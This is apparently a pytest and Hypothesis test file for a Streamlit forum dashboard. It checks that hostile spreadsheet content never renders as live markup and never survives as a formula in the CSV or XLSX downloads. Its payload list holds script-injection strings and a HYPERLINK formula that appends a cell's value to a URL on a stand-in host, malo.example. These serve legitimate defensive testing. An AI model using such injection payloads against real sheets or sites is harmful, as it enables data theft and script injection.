"""Hostile Sheet content: HTML, Markdown, formulas, right-to-left text, emoji, 10,000-character
cells and random headers and types.

Extends tests/test_property_clean.py (any cells under the contract's headers) with payloads an
attacker or a careless paste would bring, and follows them all the way: clean + every metric,
every page of the app (nothing becomes markup), and the downloads (no formula survives).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from foro_data import access, export, metrics, schema
from foro_data.build import build_snapshot
from foro_data.snapshot import Fuente, Snapshot
from foro_data.sources.base import RawWorkbook
from tests.sheets_fixtures import forum_tabs, write_xlsx
from tests.test_property_clean import blank, used_rows
from tests.workbooks import READ_AT, at
from ui.frame import RAISE_ENV, Ctx

ROOT = Path(__file__).resolve().parents[2]
DASHBOARD = str(ROOT / "dashboard.py")

# Payloads, each with a marker word so a test can tell the payload is on screen at all.
HTML_B = "<b>NEGRITA</b>"
HTML_IMG = '<img src=x onerror="alert(1)">IMAGEN'
HTML_SCRIPT = "<script>alert('GUION')</script>"
MD_LINK = "[ENLACE](http://malo.example/x)"
MD_BOLD = "**FUERTE**"
ST_COLOR = ":red[ROJO]"
FORMULA_LINK = '=HYPERLINK("http://malo.example/?d="&A2;"VINCULO")'
FORMULA_XML = '=IMPORTXML("http://malo.example/x";"//a")'
RTL = "مدينة\u202eالأمن"  # Arabic with a right-to-left override
EMOJI = "🏙️👩🏽‍⚖️🇦🇷"
LONG = "Ciudad" + "x" * 10_000
PAYLOADS = [
    HTML_B,
    HTML_IMG,
    HTML_SCRIPT,
    MD_LINK,
    MD_BOLD,
    ST_COLOR,
    FORMULA_LINK,
    FORMULA_XML,
    RTL,
    EMOJI,
    LONG,
    "+54 261 555",
    "-1",
    "@SUMA(1;2)",
    "\t=1+1",
    "\r=1+1",
    "$$x^2$$",
    "# TITULO",
    "> cita",
    "`código`",
    "\x00\x07",
    "\u200b\u200d",
    "Ñandú ÀÉÎÕÜ",
    "\ufeffBOM",
    "<!--",
    "]]>",
    "{{7*7}}",
]
# What must never reach a markdown body as it came from the Sheet.
RAW_MARKUP = ["<b>NEGRITA", "<img", "<script", "](http://malo", "**FUERTE**", ":red[ROJO", "$$x^2$$"]
# In an st.html body Markdown is plain text; only HTML is live there.
RAW_HTML = [m for m in RAW_MARKUP if m.startswith("<")]

hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS), st.text(max_size=10)),
)
hostile_cell = st.one_of(
    st.none(),
    hostile_text,
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)),
    st.booleans(),
)
TABS = [t for t in schema.TABS if t.name != "Evento"]


@st.composite
def hostile_tab(draw, tab: schema.Tab):
    known = [a for c in tab.columns for a in (c.name, *c.aliases)]
    headers = draw(
        st.lists(
            st.one_of(st.sampled_from(known), hostile_text, st.none(), st.integers()), max_size=len(tab.columns) + 3
        )
    )
    rows = draw(st.lists(st.lists(hostile_cell, max_size=len(headers) + 2), max_size=6))
    return [headers, *rows]


@st.composite
def hostile_workbooks(draw):
    chosen = draw(st.lists(st.sampled_from(TABS), unique_by=lambda t: t.name, max_size=len(TABS)))
    tabs = {t.name: draw(hostile_tab(t)) for t in chosen}
    if draw(st.booleans()):  # a well-formed Inscripciones with hostile values, so the people pages fill
        tabs["Inscripciones"] = [schema.INSCRIPCIONES.headers] + [
            [draw(hostile_text) for _ in schema.INSCRIPCIONES.headers] for _ in range(draw(st.integers(1, 4)))
        ]
    return RawWorkbook(tabs=tabs, serial_dates=draw(st.booleans()))


def every_figure(snap: Snapshot) -> None:
    """Every metric the pages draw (test_property_clean covers the CLI's ones)."""
    for as_of in (at("09:00"), at("23:59")):
        metrics.cifras(snap, as_of)
        metrics.ocupacion_salas(snap, as_of)
        metrics.por_lugar(snap, as_of)
        metrics.cuadro_socios(snap, as_of, "paridad")
        metrics.asistencia_general(snap, as_of)
        for campo in metrics.CAMPOS:
            metrics.desglose(snap, as_of, campo)
    metrics.fondos(snap)
    metrics.roles_otro(snap)
    metrics.dia_del_foro(snap)
    for q in (HTML_B, LONG, RTL, "", "*"):
        metrics.buscar_personas(snap, q)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(hostile_workbooks())
def test_hostile_cells_are_used_or_reported(raw: RawWorkbook) -> None:
    snap = build_snapshot(raw, Fuente("archivo", "hostil", READ_AT))
    every_figure(snap)
    used = used_rows(snap)
    reported = {(p.tab, p.row) for p in snap.problems}
    for name, rows in raw.tabs.items():
        if schema.header_key(name) not in {schema.header_key(t.name) for t in schema.TABS}:
            continue
        for n, row in enumerate(rows[1:], start=2):
            if all(blank(c) for c in row):
                continue
            assert (name, n) in used or (name, n) in reported, f"{name} fila {n}: {row!r:.200}"
    for p in snap.problems:
        assert p.reason and isinstance(p.value, str)


def test_ten_thousand_character_cells_everywhere() -> None:
    """One long cell in every column of every tab: cleaning, the gazetteer and the metrics cope."""
    tabs = forum_tabs(6)
    for rows in tabs.values():
        for row in rows[1:3]:
            for i in range(len(row)):
                row[i] = LONG
    snap = build_snapshot(RawWorkbook(tabs=tabs), Fuente("archivo", "largo", READ_AT))
    every_figure(snap)
    assert snap.personas and snap.problems


# --- the pages: nothing from the Sheet becomes markup ----------------------------------------

ORG_CLAVE = "org-hostil-991"


def hostile_workbook_tabs() -> dict[str, list[list]]:
    """The forum workbook with payloads in every free-text field people see."""
    tabs = forum_tabs(12)
    ins = tabs["Inscripciones"]
    head = ins[0]
    texts = [
        HTML_B,
        HTML_IMG,
        HTML_SCRIPT,
        MD_LINK,
        MD_BOLD,
        ST_COLOR,
        FORMULA_LINK,
        FORMULA_XML,
        RTL,
        EMOJI,
        "$$x^2$$ " + MD_BOLD,
        LONG,
    ]
    for i, row in enumerate(ins[1:13]):
        payload = texts[i % len(texts)]
        for col in ("Nombre", "Apellido", "Cargo", "Ciudad", "Red"):
            row[head.index(col)] = f"{payload} {col}{i}"
    ins[0] = head + ["Institución"]
    for i, row in enumerate(ins[1:13]):
        row += [None] * (len(head) - len(row)) + [texts[(i + 3) % len(texts)]]
    tabs["Salas"] = [["Sala", "Capacidad"], [f"Sala {HTML_B} {MD_LINK}", 40], [f"{ST_COLOR} {HTML_IMG}", 30]]
    tabs["Agenda"] = [
        ["Inicio", "Fin", "Sala", "Actividad", "Tipo"],
        [
            datetime(2025, 6, 19, 0, 0),
            datetime(2025, 6, 19, 23, 59),
            f"Sala {HTML_B} {MD_LINK}",
            f"{MD_BOLD} {HTML_SCRIPT}",
            "intercambio",
        ],
    ]
    tabs["Apoyos"][1][0] = ins[1][head.index("Dirección de correo electrónico")]
    tabs["Evento"] = [["Clave", "Valor"], ["nombre", f"Foro {HTML_B} {MD_LINK}"], ["sede", HTML_IMG]]
    return tabs


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostil")
    book = write_xlsx(hostile_workbook_tabs(), tmp / "hostil.xlsx")
    secrets = tmp / "secrets.toml"
    secrets.write_text(
        f'[foro]\nfuente = "archivo"\narchivo = "{book}"\n\n[acceso]\norganizacion = "{ORG_CLAVE}"\n', encoding="utf-8"
    )
    with pytest.MonkeyPatch.context() as env:
        env.setenv("FORO_SECRETS", str(secrets))
        env.setenv("FORO_CACHE_DIR", str(tmp / "cache"))
        env.setenv(RAISE_ENV, "1")  # an exception must reach AppTest, not hide behind a friendly box
        yield tmp


# Every page of the navigation (en_vivo is the default one, reached without switching).
PAGE_FILES = {p.id: (None if p.id == "en_vivo" else p.file) for p in access.PAGE_REGISTRY}


def open_as_organiser(page: str, lang: str = "es") -> AppTest:
    app = AppTest.from_file(DASHBOARD, default_timeout=60)
    app.query_params.update({"clave": ORG_CLAVE, "lang": lang})
    app.run()
    if PAGE_FILES[page] and (ROOT / PAGE_FILES[page]).exists():
        app.switch_page(PAGE_FILES[page]).run()
    return app


# The scripts the app ships in static/ and inlines itself (the data age, the tap check), byte for byte.
APP_SCRIPTS = tuple(
    f"<script>{js.read_text(encoding='utf-8')}</script>" for js in sorted((ROOT / "static").glob("*.js"))
)


# En vivo's arrival chart: an image of ours, an SVG with no Sheet text, as a base64 data URI.
APP_IMAGE = re.compile(r'<img src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+"')


def without_app_scripts(body: str) -> str:
    """The body minus the app's own inlined scripts and chart image, matched whole and exactly: a
    Sheet cell cannot be one of them, so any other ``<script`` or ``<img`` left is still caught."""
    for script in APP_SCRIPTS:
        body = body.replace(script, "")
    return APP_IMAGE.sub("", body)


def markup_bodies(app: AppTest) -> list[str]:
    """Every element body Streamlit renders as Markdown or HTML (metric labels are Markdown too)."""
    return [body for _, body in kinded_bodies(app)]


def live_markup(app: AppTest) -> list[tuple[str, str]]:
    """(payload, body) for every Sheet payload still live in a body: Markdown and HTML in a Markdown
    body, HTML in an st.html body (whose Markdown characters are shown as they are)."""
    return [
        (raw, body[:160])
        for kind, body in kinded_bodies(app)
        for raw in (RAW_HTML if kind == "html" else RAW_MARKUP)
        if raw in unescaped(body)
    ]


def kinded_bodies(app: AppTest) -> list[tuple[str, str]]:
    """(element kind, body) of every element rendered as Markdown or HTML."""
    out = []
    for kind in (
        "markdown",
        "caption",
        "title",
        "header",
        "subheader",
        "info",
        "warning",
        "success",
        "error",
        "expander",
        "tab",
        "toast",
        "html",
    ):
        for e in app.get(kind):
            body = str(getattr(e, "value", None) or getattr(e, "label", None) or getattr(e.proto, "body", ""))
            out.append((kind, without_app_scripts(body)))
    for m in app.metric:
        out.append(("metric", m.label))
    for b in app.button:  # button labels are Markdown too (the desk lists people as buttons)
        out.append(("button", str(b.label)))
    return out


def unescaped(body: str) -> str:
    """The body with every backslash-escaped character blanked: what is left is live markup."""
    return re.sub(r"\\.", "·", body, flags=re.S)


@pytest.mark.parametrize("page", [p for p, f in PAGE_FILES.items() if f is None or (ROOT / f).exists()])
def test_sheet_payloads_are_never_markup(hostile_app, page: str) -> None:
    app = open_as_organiser(page)
    assert not app.exception, [e.value for e in app.exception]
    if page == "acreditacion":  # the desk shows people only once something is searched
        app.text_input[0].input("NEGRITA").run()
        assert not app.exception, [e.value for e in app.exception]
    joined = "\n".join(markup_bodies(app))
    assert not live_markup(app), (page, live_markup(app))
    # The payloads do reach the screen (so the test can fail): escaped in Markdown, or in a table.
    tables = "\n".join(d.value.to_csv(index=False) for d in app.dataframe)
    assert "NEGRITA" in joined + tables or "FUERTE" in joined + tables or page in ("mapa", "socios"), page


def test_the_check_catches_markup() -> None:
    """markup_bodies sees an unescaped payload: the check above can fail."""

    def app_fn():
        import streamlit as st

        st.markdown("Sala <b>NEGRITA</b>", unsafe_allow_html=True)

    app = AppTest.from_function(app_fn).run()
    assert any("<b>NEGRITA" in unescaped(b) for b in markup_bodies(app))
    assert "<b>" not in unescaped(r"Sala \<b\>NEGRITA")

    def html_fn():
        import streamlit as st

        st.html("Sala <b>NEGRITA</b>")
        st.html("Sala [x](http://malo) **FUERTE**")  # shown as typed: not markup in HTML

    assert live_markup(AppTest.from_function(html_fn).run()) == [("<b>NEGRITA", "Sala <b>NEGRITA</b>")]


def test_the_check_sees_past_the_app_scripts() -> None:
    """Only the app's own scripts, whole and unchanged, are set aside: a Sheet script next to them,
    or a script that merely starts like the app's, is still caught."""
    assert len(APP_SCRIPTS) >= 2, "static/foro-edad.js and static/foro-toques.js are shipped"
    own = APP_SCRIPTS[0]

    def app_fn(own: str, payload: str):
        import streamlit as st

        st.html(own + "Sala " + payload, unsafe_allow_javascript=True)
        st.html(own[: -len("</script>")] + "alert(1)</script>", unsafe_allow_javascript=True)

    app = AppTest.from_function(app_fn, args=(own, HTML_SCRIPT)).run()
    bodies = markup_bodies(app)
    assert len(bodies) == 2
    assert all("<script" in unescaped(b) for b in bodies), bodies
    assert bodies[0] == "Sala " + HTML_SCRIPT


# --- downloads: no formula survives ------------------------------------------------------------

TRIGGERS = export.FORMULA_TRIGGERS


def assert_inert_csv(data: bytes) -> int:
    text = data.decode("utf-8-sig")
    n = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            n += 1
            if cell.startswith(TRIGGERS):
                # Only a number written by us may start with "-" or "+" (a negative amount).
                float(cell.replace(",", "."))
    return n


def assert_inert_xlsx(data: bytes) -> int:
    wb = load_workbook(io.BytesIO(data))
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                n += 1
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(TRIGGERS), (ws.title, c.coordinate, c.value)
    return n


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.lists(st.one_of(hostile_text, st.none(), st.integers(), st.floats(allow_nan=False)), min_size=1, max_size=4),
        min_size=1,
        max_size=6,
    ),
    st.lists(hostile_text, min_size=1, max_size=4),
)
def test_any_table_downloads_inert(rows, headers) -> None:
    tabla = export.Tabla(
        "Datos " + (headers[0] or "")[:20], tuple(h or "x" for h in headers), tuple(tuple(r) for r in rows)
    )
    assert assert_inert_csv(export.to_csv(tabla))
    assert assert_inert_xlsx(export.to_xlsx([tabla, tabla]))


def test_page_downloads_from_a_hostile_sheet_are_inert() -> None:
    """From the Sheet cells to the bytes of the Socios and Personas downloads."""
    from ui import partners, people

    snap = build_snapshot(RawWorkbook(tabs=hostile_workbook_tabs()), Fuente("archivo", "hostil", READ_AT))
    ctx = Ctx(None, snap, at("23:00"), "es", "organizacion", False)  # type: ignore[arg-type]
    socios = partners.tablas(ctx)
    personas = people.tabla(ctx, list(snap.personas))
    flat = "\n".join(str(v) for f in personas.filas for v in f)
    assert "HYPERLINK" in flat, "the payload is in the export, so the test can fail"
    for tabla in [*socios, personas]:
        assert_inert_csv(export.to_csv(tabla))
    assert_inert_csv(export.to_csv(export.combined(socios)))
    assert_inert_xlsx(export.to_xlsx([*socios, personas]))


@pytest.mark.parametrize("text", ["línea\x0bsalto", "nul\x00", "campana\x07", "\x1bescape"])
def test_xlsx_download_survives_control_characters(text: str) -> None:
    """Regression: a pasted soft line break (\\x0b) or another control character in any Sheet cell
    made openpyxl raise IllegalCharacterError, and the Socios/Personas page lost its downloads."""
    tabla = export.Tabla(f"Hoja {text}", ("Nombre", text), ((text, f"={text}"),))
    wb = load_workbook(io.BytesIO(export.to_xlsx([tabla])))
    values = [c.value for row in wb.worksheets[0].iter_rows() for c in row]
    assert values[0] == "Nombre" and all(isinstance(v, str) for v in values)
    assert any("salto" in v or "nul" in v or "campana" in v or "escape" in v for v in values)
    assert_inert_xlsx(export.to_xlsx([tabla]))
